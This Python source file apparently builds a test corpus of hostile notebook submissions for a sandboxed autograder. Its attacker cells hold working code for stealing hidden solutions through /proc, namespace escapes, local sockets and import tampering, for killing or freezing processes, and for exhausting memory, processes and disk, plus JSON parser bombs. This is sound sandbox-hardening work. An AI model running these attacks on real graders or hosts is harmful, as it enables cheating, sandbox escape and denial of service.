"""A corpus of hostile submissions of 02_batching, one or more per attack class.

Each attacker is the blank release notebook with one extra code cell in front. Most try
to reach the answers through some channel (a source notebook with its solutions, the
hidden checks, a classmate's scratch files, a host socket that hands out solutions) and,
if they succeed, run the solutions, so any leak shows up as points. Others try to harm
the batch: kill or stop processes, leave processes behind, write files outside the
sandbox, exhaust memory, processes or scratch, flood the grader with output, or make
the grader's own work on the notebook explode.

``build_corpus`` writes the attackers with a correct and a blank classmate into a course
directory; ``Targets`` are the host paths and processes the attackers aim at.
"""

import copy
import json
from dataclasses import dataclass
from pathlib import Path

import nbformat

ASSIGNMENT = "02_batching"

PRELUDE = r'''
import json as _json, os as _os

def _run_solutions(text):
    """Define every answer from a source notebook's text; True when any was found."""
    found = False
    for cell in _json.loads(text)["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if "### BEGIN SOLUTION" in src:
            exec(src, globals())
            found = True
    return found

def _steal(paths):
    for path in paths:
        try:
            with open(path) as f:
                if _run_solutions(f.read()):
                    return path
        except Exception:
            pass
    return None

def _try(action):
    try:
        return action()
    except BaseException as exc:
        return repr(exc)
'''


@dataclass
class Targets:
    """What the attackers aim at, all on the host."""

    sources: list  # source notebooks with solutions: the course's, this checkout's, a copy
    checks: str  # the hidden checks
    packages: list  # directories holding a copy of course_utils
    writable: list  # files the grader's user may write: must stay unchanged
    marker_dir: str  # a host directory where an escaped attacker would leave files
    canary_pid: int  # a process of the grader's user that must survive
    unix_socket: str  # a host Unix socket that answers with a source notebook
    abstract_socket: str  # the same, in the abstract namespace
    tcp_port: int  # the same, on 127.0.0.1


def attackers(t):
    """``{student: (attack class, cell source)}``; students are graded in name order."""
    sources = json.dumps(t.sources)
    writable = json.dumps(t.writable)
    marker = json.dumps(t.marker_dir + "/escaped")
    return {
        "atk-01-direct-read": (
            "deny-list file system",
            f"_steal({sources})\n_try(lambda: exec(open({t.checks!r}).read(), {{}}))\n",
        ),
        "atk-02-proc-root": (
            "capabilities kept as root",
            "paths = []\n"
            "for pid in _os.listdir('/proc'):\n"
            "    if pid.isdigit():\n"
            f"        paths += ['/proc/' + pid + '/root' + p for p in {sources}]\n"
            "        paths += ['/proc/' + pid + '/cwd/source/02_batching/02_batching.ipynb']\n"
            "_steal(paths)\n",
        ),
        "atk-03-chroot-setns": (
            "capabilities kept as root",
            "import ctypes\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "for pid in [p for p in _os.listdir('/proc') if p.isdigit()]:\n"
            "    for ns in ('mnt', 'net', 'pid', 'user'):\n"
            "        _try(lambda: libc.setns(_os.open(f'/proc/{pid}/ns/{ns}', _os.O_RDONLY), 0))\n"
            "    _try(lambda: _os.chroot(f'/proc/{pid}/root'))\n"
            f"_steal({sources})\n"
            "_try(lambda: libc.unshare(0x10000000 | 0x00020000))\n"
            "_try(lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))\n"
            f"_steal({sources})\n",
        ),
        "atk-04-packages": (
            "deny-list file system",
            "import sys\n"
            f"sys.path[:0] = [_os.path.dirname(p) for p in {json.dumps(t.packages)}]\n"
            "for name in list(sys.meta_path):\n"
            "    if type(name).__name__ == 'BlockImports':\n"
            "        sys.meta_path.remove(name)\n"
            "def _use_reference():\n"
            "    from course_utils import batching\n"
            "    globals().update({k: getattr(batching, k) for k in dir(batching)})\n"
            "_try(_use_reference)\n",
        ),
        "atk-05-sockets": (
            "deny-list file system",
            "import socket\n"
            "def _fetch(family, address):\n"
            "    s = socket.socket(family, socket.SOCK_STREAM)\n"
            "    s.settimeout(3)\n"
            "    s.connect(address)\n"
            "    data = b''\n"
            "    while chunk := s.recv(65536):\n"
            "        data += chunk\n"
            "    return _run_solutions(data.decode())\n"
            f"_try(lambda: _fetch(socket.AF_UNIX, {t.unix_socket!r}))\n"
            f"_try(lambda: _fetch(socket.AF_UNIX, '\\0' + {t.abstract_socket!r}))\n"
            f"_try(lambda: _fetch(socket.AF_INET, ('127.0.0.1', {t.tcp_port})))\n",
        ),
        "atk-06-signals": (
            "signals to the grader",
            "import signal\n"
            f"_try(lambda: _os.kill({t.canary_pid}, signal.SIGKILL))\n"
            "for pid in [int(p) for p in _os.listdir('/proc') if p.isdigit()]:\n"
            "    if pid != _os.getpid():\n"
            "        _try(lambda: _os.kill(pid, signal.SIGSTOP))\n"
            "_try(lambda: _os.kill(_os.getppid(), signal.SIGKILL))\n"
            "_try(lambda: _os.kill(-1, signal.SIGKILL))\n",
        ),
        "atk-07-zygote-takeover": (
            "zygote takeover",
            "import ctypes, signal\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "for pid in [int(p) for p in _os.listdir('/proc') if p.isdigit()]:\n"
            "    if pid == _os.getpid():\n"
            "        continue\n"
            "    pidfd = libc.syscall(434, pid, 0)\n"
            "    for fd in range(64):\n"
            "        got = libc.syscall(438, pidfd, fd, 0)\n"
            "        if got >= 0:\n"
            "            _try(lambda: _os.write(got, b'garbage'))\n"
            "    _try(lambda: _os.kill(pid, signal.SIGSTOP))\n",
        ),
        "atk-08-leftovers": (
            "leftovers",
            "import time, signal\n"
            "if _os.fork() == 0:\n"
            "    _os.setsid()\n"
            "    if _os.fork() == 0:\n"
            "        for _ in range(40):\n"
            "            time.sleep(0.5)\n"
            f"            _try(lambda: _os.kill({t.canary_pid}, signal.SIGKILL))\n"
            f"            _try(lambda: open({marker}, 'w').write('still here'))\n"
            "    _os._exit(0)\n",
        ),
        "atk-09-writes": (
            "deny-list file system",
            f"for path in {writable} + [{marker}]:\n"
            "    _try(lambda: open(path, 'a').write('tampered'))\n"
            "    _try(lambda: _os.remove(path))\n",
        ),
        "atk-11-scratch-reader": (
            "shared scratch",
            "import glob\n"
            "_steal(glob.glob('/tmp/**', recursive=True) + glob.glob('/dev/shm/**', recursive=True)"
            " + glob.glob(_os.path.expanduser('~') + '/**', recursive=True))\n",
        ),
        "atk-12-memory": (
            "no limits",
            "_try(lambda: bytearray(4 << 30))\n"
            "blocks = []\n"
            "def _grab():\n"
            "    while True:\n"
            "        blocks.append(bytearray(256 << 20))\n"
            "_try(_grab)\n"
            "del blocks\n",
        ),
        "atk-13-processes": (
            "no limits",
            "import time\n"
            "children = []\n"
            "def _spawn():\n"
            "    for _ in range(150):\n"
            "        pid = _os.fork()\n"
            "        if pid == 0:\n"
            "            time.sleep(60)\n"
            "            _os._exit(0)\n"
            "        children.append(pid)\n"
            "_try(_spawn)\n"
            "forked = len(children)\n",
        ),
        "atk-14-fill-scratch": (
            "no limits",
            "def _fill():\n"
            "    with open('/tmp/fill', 'wb') as f:\n"
            "        for _ in range(1024):\n"
            "            f.write(bytes(1 << 20))\n"
            "_try(_fill)\n",
        ),
        "atk-15-shell-lines": (
            "trusted-side work on untrusted input",
            "\n".join(f"!echo {i}" for i in range(4000)) + "\n",
        ),
        "atk-16-huge-messages": (
            "trusted-side work on untrusted input",
            "print('y' * (64 << 20))\n"
            "class _Loud(Exception):\n"
            "    def __str__(self):\n"
            "        return '\\x1b[2J\\x1b]0;pwned\\x07' + 'z' * (8 << 20) + '\\ud800'\n"
            "def make_batches(*args, **kwargs):\n"
            "    raise _Loud()\n",
        ),
        "atk-17-flood-channel": (
            "trusted-side work on untrusted input",
            "import struct, sys\n"
            "frame = sys._getframe()\n"
            "while frame.f_code.co_name != 'serve':\n"
            "    frame = frame.f_back\n"
            "fd = frame.f_locals['resp_fd']\n"
            "body = b'{\"ok\": true, \"value\": \"' + b'a' * (40 << 20) + b'\"}'\n"
            "_os.write(fd, struct.pack('>Q', len(body)))\n",
        ),
        "atk-18-surrogates": (
            "inconsistent status",
            "def make_batches(*args, **kwargs):\n"
            "    raise ValueError('bad \\ud800\\udfff value \\x1b[31mred')\n",
        ),
        "atk-19-record-drivers": (
            "channels in the checks",
            "import sys\n"
            "frame = sys._getframe()\n"
            "while frame.f_code.co_name != 'serve':\n"
            "    frame = frame.f_back\n"
            "child = frame.f_locals['self']\n"
            "seen = []\n"
            "original = type(child).handle\n"
            "def spy(self, request):\n"
            "    seen.append(str(request.get('code', ''))[:2000])\n"
            "    raise RuntimeError('recorded: ' + ' | '.join(seen))\n"
            "type(child).handle = spy\n",
        ),
    }


SPECIAL_FILES = {
    # notebooks whose reading must not hurt the grader
    "atk-20-deep-json": lambda: (
        '{"cells": [], "metadata": {"x": '
        + "[" * 200_000
        + "]" * 200_000
        + '}, "nbformat": 4, "nbformat_minor": 5}'
    ),
    "atk-21-long-int": lambda: (
        '{"cells": [], "metadata": {"x": ' + "9" * 5000 + '}, "nbformat": 4, "nbformat_minor": 5}'
    ),
}


def attack_notebook(release, source):
    notebook = copy.deepcopy(release)
    notebook.cells.insert(0, nbformat.v4.new_code_cell(PRELUDE + "\n" + source))
    return notebook


def scratch_writer(reference, source_text):
    """A correct submission that leaves a source notebook (its solutions) in /tmp,
    /dev/shm and its home directory, for a later classmate to find."""
    notebook = copy.deepcopy(reference)
    places = ["/tmp/answers.ipynb", "/dev/shm/answers.ipynb", "~/answers.ipynb"]
    code = (
        "import os\n"
        f"for place in {places!r}:\n"
        "    try:\n"
        "        with open(os.path.expanduser(place), 'w') as f:\n"
        f"            f.write({source_text!r})\n"
        "    except OSError:\n"
        "        pass\n"
    )
    notebook.cells.insert(0, nbformat.v4.new_code_cell(code))
    return notebook


def build_corpus(course_root, targets, reference, blank, source_text):
    """Write the classmates and every attacker under ``submitted/``; return the names."""
    submitted = Path(course_root) / "submitted"
    name = f"{ASSIGNMENT}.ipynb"
    written = {}

    def put(student, notebook=None, text=None):
        folder = submitted / student / ASSIGNMENT
        folder.mkdir(parents=True)
        if text is not None:
            (folder / name).write_text(text)
        else:
            nbformat.write(notebook, folder / name)
        written[student] = True

    put("classmate-blank", blank)
    put("classmate-correct", reference)
    put("atk-10-scratch-writer", scratch_writer(reference, source_text))
    for student, (_, source) in attackers(targets).items():
        put(student, attack_notebook(blank, source))
    for student, make in SPECIAL_FILES.items():
        put(student, text=make())
    return sorted(written)
